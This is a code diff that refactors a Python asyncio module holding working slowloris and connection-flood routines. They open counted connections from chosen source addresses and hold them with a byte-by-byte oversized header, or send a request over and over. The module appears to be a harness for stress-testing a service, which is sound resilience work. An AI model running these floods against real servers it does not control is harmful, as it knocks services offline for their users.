@@ -90,17 +90,28 @@ async def _read_answer(reader: asyncio.StreamReader) -> int:
     return status
 
 
+async def _connect(
+    target: tuple[str, int, str], counts: AttackCounts
+) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
+    """A connection to target's host and port from its source address, counted; None (after a pause) if refused."""
+    host, port, source = target
+    try:
+        connected = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(source, 0)), 5)
+    except (OSError, TimeoutError):
+        counts.connect_errors += 1
+        await asyncio.sleep(0.5)
+        return None
+    counts.connections += 1
+    return connected
+
+
 async def _slowloris(target: tuple[str, int, str], interval: float, stop_at: float, counts: AttackCounts) -> None:
-    host, port, source = target  # source: the local address the attack comes from
     loop = asyncio.get_running_loop()
     while loop.time() < stop_at:
-        try:
-            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(source, 0)), 5)
-        except (OSError, TimeoutError):
-            counts.connect_errors += 1
-            await asyncio.sleep(0.5)
+        connected = await _connect(target, counts)
+        if connected is None:
             continue
-        counts.connections += 1
+        reader, writer = connected
         payload = b"GET /ready HTTP/1.1\r\nHost: x\r\n" + b"X-Slow: " + b"z" * 100_000
         try:
             for byte in payload:
@@ -123,16 +134,12 @@ async def _slowloris(target: tuple[str, int, str], interval: float, stop_at: flo
 
 
 async def _flood(target: tuple[str, int, str], request: bytes, stop_at: float, counts: AttackCounts) -> None:
-    host, port, source = target  # source: the local address the attack comes from
     loop = asyncio.get_running_loop()
     while loop.time() < stop_at:
-        try:
-            reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port, local_addr=(source, 0)), 5)
-        except (OSError, TimeoutError):
-            counts.connect_errors += 1
-            await asyncio.sleep(0.5)
+        connected = await _connect(target, counts)
+        if connected is None:
             continue
-        counts.connections += 1
+        reader, writer = connected
         try:
             while loop.time() < stop_at:
                 writer.write(request)
